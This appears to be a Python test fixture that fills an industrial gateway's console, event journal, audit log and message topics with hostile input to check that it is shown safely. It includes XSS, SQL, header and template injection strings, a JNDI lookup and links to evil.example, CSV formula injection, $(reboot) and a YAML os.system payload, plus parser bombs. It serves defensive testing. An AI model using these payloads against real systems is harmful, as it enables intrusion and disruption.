"""A site whose devices, tags, people and rules are all hostile: whatever they say is an attack on who shows it."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any, Final

import msgspec

from gateway.contract import batches
from gateway.contract.commands import Command, Outcome
from gateway.contract.events import Alarm, Event, Evidence, Scalar
from gateway.contract.ledger import Account, EdgeLedger
from gateway.control.audit import Audit
from gateway.event_journal import EventJournal, Row

NOW_US: Final = time.time_ns() // 1_000
S: Final = 1_000_000
CANARY: Final = "window.canary=(window.canary||0)+1"
MARK: Final = "<img src=x onerror="
"""The beginning of the attack that stands in names, so that it is on every page."""
IMAGE: Final = f'{MARK}"{CANARY}">'
TEXTS: Final = (
    IMAGE,
    f"<script>{CANARY}</script>",
    f'"><svg onload="{CANARY}">',
    f"</script><script>{CANARY}</script>",
    f"javascript:{CANARY}",
    f"' onmouseover='{CANARY}' x='",
    f'<iframe srcdoc="<script>parent.{CANARY}</script>">',
    "<style>*{display:none}</style><link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/><form action=http://evil.example/>",
    "&lt;b&gt;&#x3c;b&#x3e; <!-- <b>",
    "x value=1\nother,admin=1 v=1",
    "\r\nSet-Cookie: canary=1\r\n\r\n<script>",
    "a, b=c d",
    "ends with \\",
    '"',
    "'",
    "NUL \x00 inside",
    "\ufeff\u200b\u2028\u2029",
    "\u202egnp.exe",
    "Z\u0351\u0301" + "\u0335" * 200,
    "A" * 4096,
    "\U0001f6a2" * 300,
    "",
    "ABC",
    "+",
    "#",
    "a/../../x",
    "../../../../etc/passwd",
    "$SYS/broker",
    "//evil.example/x",
    "'; DROP TABLE reads;--",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "{0.__class__}",
    "{name} {n} $& $1",
    "%n%s%n%s",
    "%3Cimg%20src%3Dx%3E",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\nPRIORITY=0\n<0>kernel",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/","x")',
    "$(reboot) `reboot`",
    "!!python/object/apply:os.system [reboot]",
    "&a [*a,*a,*a]",
    "(a+)+$" + "a" * 200 + "!",
    'x"} 1\n# HELP canary',
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
)
TIMES_US: Final = (0, 1, -1, -batches.NUMBER_MOST, batches.NUMBER_MOST, NOW_US + 10**15)
RAW: Final = (
    b"",
    b"\xff\xfe\x00",
    b'{"kind":"reads","device":"\xc0\xaf"}',
    b'{"kind":"tick","gateway":"\\ud800","device":"\\udfff","received_at_us":1,"watched":[]}',
    b"[" * 100_000,
    b'{"a":' * 100_000,
    b'{"kind":"reads","gateway":"g","device":"d","received_at_us":NaN,"reads":[]}',
    b'{"kind":"reads","gateway":"g","device":"d","received_at_us":1e999,"reads":[]}',
    b'{"kind":"reads","gateway":"g","device":"d","received_at_us":9223372036854775808,"reads":[]}',
    b'{"kind":"tick","kind":"reads","gateway":"g","device":"d","received_at_us":1,"reads":[],"watched":[]}',
    b'{"__proto__":{"canary":1},"constructor":{"prototype":{"canary":1}}}',
    b"null",
    b'"<script>"',
    b'{"kind":"status","device":5}',
    b"A" * 65536,
)
EVENT_TYPES: Final = (
    "gate-decision",
    "passage",
    "access-decision",
    "truck-weighed",
    "arrived",
    "moved",
    "card_presented",
    "station_passed",
)
ALARM_ID: Final = f"{7:020x}"
EVENT_ID: Final = f"{1:020x}"


def site_file() -> str:
    """What follows `[console]`: the site file is the operator's, yet its words are text, too."""
    word = json.dumps(IMAGE)
    return f"""
[[console.user]]
name = "eve"
role = "engineer"
password_credential = "console-eve"

[energy]
timezone = "Asia/Shanghai"

[[energy.meter]]
name = "mains"
demand = {{ limit_w = 20000, kind = "sliding", interval_s = 1800 }}

[production]
interval_min = 5

[[production.machine]]
name = "warper-1"
device = "loom"
unit = "m"
ideal_rate_per_min = 300

[[reader]]
name = "gate"
driver = "llrp"
port = "tcp://127.0.0.1:3"
read_points = {{ 1 = "outer", 2 = "inner", 3 = "yard-1" }}

[[reader]]
name = "board"
driver = "dlt645"
port = "socket://127.0.0.1:1"
settings = {{ meters = [{{ name = "mains", address = "202411000101" }}] }}

[[reader]]
name = "loom"
driver = "modbus_machine"
port = "tcp://127.0.0.1:2"

[[reader.settings.machines]]
state = {{ address = 0, states = {{ "6" = "execute" }} }}

[[zone]]
name = "yard"
read_points = ["yard-1"]

[[portal]]
name = "lane-1"
outer = ["outer"]
inner = ["inner"]

[plan]
width_m = 100
height_m = 50
place = [{{ name = "yard", label = {word}, x_m = 10, y_m = 10, width_m = 30, height_m = 20 }}]

[[rule]]
name = "hostile"
shape = "match"
on = "passage"
when = {json.dumps("e.subject == " + json.dumps(IMAGE))}
alarm = {{ severity = "warning", message = {word} }}
"""


def hostile_event(number: int, text: str, kind: str, at_us: int) -> Event:
    """An event all of whose words are one attack."""
    words = (
        "container",
        "plate",
        "truck",
        "driver",
        "reasons",
        "verdict",
        "truck_epc",
        "customs_version",
        "unit",
        text,
    )
    fields: dict[str, Scalar] = dict.fromkeys(words, text)
    fields |= {"customs_found": True, "value": text, "lane": "gate-in", "kind": text, "missing": text}
    found = Evidence(gateway=text or "g", epoch=1, sequence_from=1, sequence_to=1 << 62, reads=1, read_points=(text,))
    return Event(
        id=f"{number:020x}", type=kind, at_us=at_us, subject=text, evidence=found, name=text, zone=text,
        from_zone=text, read_point=text, direction=text, rule=text, device=text, fields=fields,
    )  # fmt: skip


def hostile_alarm(number: int, text: str) -> Alarm:
    """An alarm all of whose words are one attack."""
    found = Evidence(gateway=text, epoch=1, sequence_from=1, sequence_to=1, read_points=(text,))
    severity = ("info", "warning", "critical", text)[number % 4]
    since_us = NOW_US - (100 + number) * S
    return Alarm(
        id=f"{number:020x}", rule=text, severity=severity, subject=text, state="raised", since_us=since_us,
        at_us=since_us, message=text, evidence=found, fields={text: text, "kind": text}, comment=text, comment_by=text,
        acknowledged_by=text if number % 2 else None, acknowledged_at_us=NOW_US, escalated=True, escalated_by=text,
    )  # fmt: skip


def _event_row(made: Event) -> Row:
    e = made.evidence
    columns = (made.at_us, made.id, made.type, made.subject, made.name, made.zone, made.from_zone, made.read_point)
    more = (made.direction, made.rule, made.device, e.gateway, e.epoch, e.sequence_from, e.sequence_to)
    return (*columns, *more, msgspec.json.encode(made))


def write_past(directory: Path) -> None:
    """Fill the event journal and the audit of a site whose state directory this is."""
    journal = EventJournal(directory / "events", keep_days=90)
    events, alarms, readings, statuses, rates = [], [], [], [], []
    for number, text in enumerate(TEXTS):
        for kind_number, kind in enumerate(EVENT_TYPES):
            at_us = NOW_US - (number * len(EVENT_TYPES) + kind_number) * S
            events.append(_event_row(hostile_event(1 + number * len(EVENT_TYPES) + kind_number, text, kind, at_us)))
        alarm = hostile_alarm(number + 7, text)
        alarms.append((
            alarm.at_us, alarm.id, alarm.state, alarm.rule, alarm.severity, alarm.subject, alarm.since_us,
            alarm.message, msgspec.json.encode(alarm),
        ))  # fmt: skip
        at_ns = (NOW_US - number * S) * 1_000
        readings += [
            (at_ns, text, text, text, text, text, 1.0, "1", text, text, None),
            (at_ns, "mains", "active_power", "W", "", "", 5.0, text, text, text, None),
        ]
        statuses += [(at_ns, name, text, text, text, 1, 1, None) for name in (text, "gate")]
        rates.append((at_ns, "gate", 1, text, 5, 1, -60.0, -50.0, 1.0))
    refused = journal.append([{
        "events": events, "alarms": alarms, "readings": readings, "device_status": statuses, "read_rates": rates,
    }])  # fmt: skip
    assert refused == []
    journal.close()
    audit = Audit(directory)
    for number, text in enumerate(reversed(TEXTS)):  # the newest are shown first
        name = f"command-{number:04d}"
        outcome = Outcome(
            gateway="edge-1", id=name, order=name, state="refused", at_us=NOW_US - S, device="gate", point="relay",
            by="eve", action="trip", code="code", detail=text, shows={text: text},
        )  # fmt: skip
        command = Command(
            id=name, gateway="edge-1", issued_at_us=NOW_US, expires_at_us=NOW_US + S, by="eve", kind="arm",
            device="gate", point="relay", action="trip", reason=text[:200],
        )  # fmt: skip
        audit.append(outcome, command)
    audit.close()


def messages() -> Iterator[tuple[str, bytes]]:
    """What the devices, the gateway and the rules publish, by topic below the site's."""
    for number, text in enumerate(TEXTS):
        topic, at_us = f"gate-{number}", NOW_US + number
        common: dict[str, Any] = {"gateway": "edge-1", "received_at_us": at_us}
        conditions = [batches.Condition(name=text, severity=text, since_us=at_us, key=text, detail=text)]
        for device in (text, "gate"):
            yield f"{topic}/status", batches.encode(batches.StatusBatch(
                **common, device=device, state="online" if device == "gate" else text, reason=text, since_us=at_us,
                detail=text, watched=[text, "yard-1"], conditions=conditions, driver=text, manufacturer=text,
                model=text, firmware=text, in_force={text: text, "tx_power_dbm": text}, serial=text,
            ))  # fmt: skip
            read = batches.TagRead(text, 1, text, at_us, rssi_dbm=-60.0, tid=text, user_memory=text, pc_bits=1 << 40)
            yield f"{topic}/reads", batches.encode(batches.ReadBatch(**common, device=device, reads=[read]))
        card = batches.CardRead(text, text, read_point=text, antenna_port=1, seen_at_us=at_us, part=text)
        yield f"{topic}/cards", batches.encode(batches.CardBatch(**common, device=text, cards=[card]))
        for device, quantity in ((text, text), ("mains", "active_power"), ("mains", text)):
            reading = batches.Reading(quantity, text, Decimal("1E+400"), text, phase=text or None, quality=text)
            yield f"{topic}/readings", batches.encode(batches.ReadingBatch(**common, device=device, readings=[reading]))
        signals = [batches.Signal(name, text, text) for name in (text, "state", "speed")]
        for device in (text, "loom"):
            yield f"{topic}/signals", batches.encode(batches.SignalBatch(**common, device=device, signals=signals))
        for kind in EVENT_TYPES:
            yield f"events/{kind}", msgspec.json.encode(hostile_event(10**6 + number, text, kind, at_us))
        odd = msgspec.structs.replace(hostile_event(0, text, "passage", at_us), id=text)
        yield "events/passage", msgspec.json.encode(odd)
        alarm = hostile_alarm(number + 7, text)
        yield f"alarms/{alarm.id}", msgspec.json.encode(alarm)
        account = Account(heard=1, judged=-1, dropped={text: 1})
        yield f"ledger/edge-{number}", msgspec.json.encode(EdgeLedger(
            gateway=text, epoch=1, at_us=at_us, next_sequence=1, watermark=1 << 62, tag_reads=account,
            readings=account, signals=account,
        ))  # fmt: skip
    for at_us in TIMES_US:
        reads = [batches.TagRead("E280", 1, "yard-1", at_us, first_seen_at_us=at_us, count=batches.NUMBER_MOST)]
        made = batches.ReadBatch(gateway="edge-1", device="gate", received_at_us=at_us, sequence=1 << 62, reads=reads)
        yield "gate/reads", batches.encode(made)
        yield "events/arrived", msgspec.json.encode(hostile_event(9, IMAGE, "arrived", at_us))
    for payload in RAW:
        for topic in ("gate/reads", "gate/status", "events/arrived", f"alarms/{1:020x}", "ledger/edge-1", "x/y"):
            yield topic, payload
